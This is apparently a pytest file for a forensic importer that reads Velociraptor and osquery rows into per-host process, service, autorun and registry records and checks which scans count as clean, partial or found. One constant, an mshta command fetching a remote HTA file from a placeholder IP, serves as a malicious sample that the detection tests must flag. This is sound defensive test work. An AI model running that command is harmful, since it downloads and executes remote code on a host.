"""Rows of Velociraptor and osquery become artefacts of their PC, holes told."""

from __future__ import annotations

import json
from dataclasses import asdict, replace
from datetime import date
from typing import Any

import pytest

from honmono.sweep.importers import ReportFile, read
from honmono.sweep.importers.artefact_rows import _gathered, artefacts_of
from honmono.sweep.importers.naming import Notes
from honmono.sweep.knowledge import OwnFile, knowledge
from honmono.sweep.scan import Extent, Outcome
from tests.sweep.importers.made import file

DAY = date(2026, 11, 1)
PROCESS = {
    "Fqdn": "TKY-PC014",
    "Pid": 716,
    "Ppid": 4,
    "Name": "a.exe",
    "CommandLine": "a.exe -x",
    "Exe": "C:\\a.exe",
    "Username": "TKY\\tanaka",
}
ALWAYS = [{**PROCESS, "Name": name} for name in ("svchost.exe", "lsass.exe")]
SERVICE = {
    "Fqdn": "TKY-PC014",
    "State": "Running",
    "Name": "s",
    "DisplayName": "S",
    "Pid": 1,
    "StartMode": "Auto",
    "PathName": "C:\\s.exe",
}
STARTUP = {
    "Fqdn": "TKY-PC014",
    "Name": "r",
    "OSPath": "HKCU\\…\\Run",
    "Details": "rundll32 x,y",
    "Enabled": "enabled",
}
SNAPSHOT: dict[str, Any] = {
    "name": "pack/processes",
    "hostIdentifier": "KNZ-PC01",
    "unixTime": 1652835600,
    "action": "snapshot",
    "snapshot": [
        {
            "pid": "716",
            "parent": "4",
            "name": "a.exe",
            "path": "C:\\a.exe",
            "cmdline": "a.exe",
        }
    ],
}


SERVICES = [{**SERVICE, "Name": name} for name in ("RpcSs", "EventLog")]
SNAPSHOT["snapshot"] += [
    {**SNAPSHOT["snapshot"][0], "name": name} for name in ("svchost.exe", "lsass.exe")
]


def lines_of(*rows: dict[str, Any]) -> bytes:
    return b"".join(json.dumps(row).encode() + b"\n" for row in rows)


def artefacts_from_rows(one: ReportFile) -> dict[str, dict[str, Any]]:
    return {pc.host: asdict(artefacts_of(pc)) for pc in _gathered(one, Notes())}


def test_rows_of_velociraptor_become_the_parts_of_the_form() -> None:
    found = artefacts_from_rows(
        file(lines_of(PROCESS, *ALWAYS, SERVICE, *SERVICES, STARTUP), "a.json")
    )

    one = found["TKY-PC014"]
    assert one["host"]["os"] == "windows"
    assert one["processes"][:1] == [
        {
            "name": "a.exe",
            "pid": "716",
            "ppid": "4",
            "image_path": "C:\\a.exe",
            "command_line": "a.exe -x",
            "user": "TKY\\tanaka",
        }
    ]
    assert one["services"][0]["command_line"] == "C:\\s.exe"
    assert one["autoruns"][0]["command_line"] == "rundll32 x,y"
    assert one["could_not"] == {}


def test_a_part_that_nobody_gathered_is_null_and_not_empty() -> None:
    one = artefacts_from_rows(file(lines_of(PROCESS), "a.json"))["TKY-PC014"]

    assert (one["services"], one["registry"], one["files"]) == (None, None, None)


def test_a_snapshot_of_osquery_is_a_list_with_its_time() -> None:
    one = artefacts_from_rows(file(lines_of(SNAPSHOT), "a.log"))["KNZ-PC01"]

    assert one["host"]["collected_at"] == "2022-05-18T01:00:00+00:00"
    assert one["processes"][0]["command_line"] == "a.exe"
    assert one["could_not"] == {}


def test_a_log_of_changes_is_a_list_with_holes() -> None:
    added = {
        "hostIdentifier": "A",
        "action": "added",
        "columns": {"pid": "1", "name": "a", "cmdline": "a"},
    }
    removed = {**added, "action": "removed"}
    one = artefacts_from_rows(file(lines_of(added, removed), "a.log"))["A"]

    assert len(one["processes"]) == 1
    assert set(one["could_not"]) == {"processes"}


def test_the_registry_is_split_by_hive_and_user() -> None:
    rows = [
        {
            "hostIdentifier": "A",
            "action": "snapshot",
            "columns": {"key": key, "name": "n", "type": "REG_SZ", "data": "d"},
        }
        for key in (
            "HKEY_LOCAL_MACHINE\\Software\\X",
            "HKEY_USERS\\S-1-5-21-1\\Software\\X",
        )
    ]
    one = artefacts_from_rows(file(lines_of(*rows), "a.log"))["A"]

    assert set(one["could_not"]) == {"registry"}
    assert [(r["hive"], r["key"]) for r in one["registry"]] == [
        ("HKLM", "Software\\X"),
        ("HKU\\S-1-5-21-1", "Software\\X"),
    ]


def test_a_line_that_is_broken_or_without_end_is_a_hole_in_every_part() -> None:
    whole = lines_of(*ALWAYS, *SERVICES)
    for data in (whole + b'{"a":\n', whole[:-1], b'{"Fqdn"\n' + whole):
        one = artefacts_from_rows(file(data, "a.json"))["TKY-PC014"]
        assert set(one["could_not"]) == {"processes", "services"}


def test_a_list_that_lacks_what_every_pc_has_is_not_whole() -> None:
    for rows in ([PROCESS], [SERVICE], [PROCESS, ALWAYS[0]]):
        one = artefacts_from_rows(file(lines_of(*rows), "a.json"))["TKY-PC014"]
        assert len(one["could_not"]) == 1


def test_a_list_instead_of_lines_is_read_too() -> None:
    data = json.dumps([PROCESS, SERVICE])

    assert set(artefacts_from_rows(file(data, "a.json"))) == {"TKY-PC014"}


def test_our_checks_look_at_them_and_never_call_them_clean() -> None:
    rows = (PROCESS, *ALWAYS, SERVICE, *SERVICES, SNAPSHOT)
    scans = read(file(lines_of(*rows), "a.json")).scans

    assert {
        (s.host, s.product, s.extent, s.outcome, s.unknown["host:collector"])
        for s in scans
    } == {
        ("TKY-PC014", "honmono", Extent.CHECKS, Outcome.PARTIAL, "velociraptor"),
        ("KNZ-PC01", "honmono", Extent.CHECKS, Outcome.PARTIAL, "osquery"),
    }
    assert all(scan.could_not for scan in scans)


HARM = "mshta http://192.0.2.1/a.hta"


@pytest.mark.parametrize(
    "rows",
    [
        [{**STARTUP, "Details": HARM}],
        [{**SERVICE, "PathName": HARM}],
        [
            {**PROCESS, "Pid": 70, "Name": "EXCEL.EXE"},
            {**PROCESS, "Ppid": 70, "Name": "mshta.exe", "CommandLine": HARM},
        ],
    ],
    ids=["start", "service", "process"],
)
def test_what_is_found_in_them_counts(rows: list[dict[str, Any]]) -> None:
    (scan,) = read(file(lines_of(*rows), "a.json")).scans

    assert (scan.outcome, scan.product) == (Outcome.FOUND, "honmono")
    assert scan.detections[0].action.endswith(HARM)


def test_what_the_operator_knows_is_looked_for_in_them() -> None:
    own = OwnFile("own.csv", "kind,value,from\nname,a.exe-own.exe,2026-01-01", DAY)
    row = {**PROCESS, "Name": "A.exe-own.exe"}
    one = replace(file(lines_of(row), "a.json"), knowledge=knowledge([own]))

    assert read(one).scans[0].outcome is Outcome.FOUND  # also where nobody says when
    assert read(file(lines_of(row), "a.json")).scans[0].outcome is Outcome.PARTIAL


def test_a_file_in_the_start_menu_is_its_own_command() -> None:
    rows = lines_of({**STARTUP, "OSPath": "C:\\b.lnk", "Details": None})
    (start,) = artefacts_from_rows(file(rows, "a.json"))["TKY-PC014"]["autoruns"]

    assert start["command_line"] == "C:\\b.lnk"


def test_without_a_pc_it_says_what_to_do() -> None:
    row = {name: value for name, value in PROCESS.items() if name != "Fqdn"}

    assert read(file(lines_of(row), "a.json")).troubles[-1].code == "no-host"
    one = file(lines_of(row), "TKY-PC014_velociraptor.json")
    assert read(one).scans[0].host == "TKY-PC014"


def test_rows_of_other_kinds_are_told() -> None:
    result = read(file(lines_of(PROCESS, {"Fqdn": "TKY-PC014", "Foo": 1}), "a.json"))

    assert [t.code for t in result.troubles] == ["odd-object"]
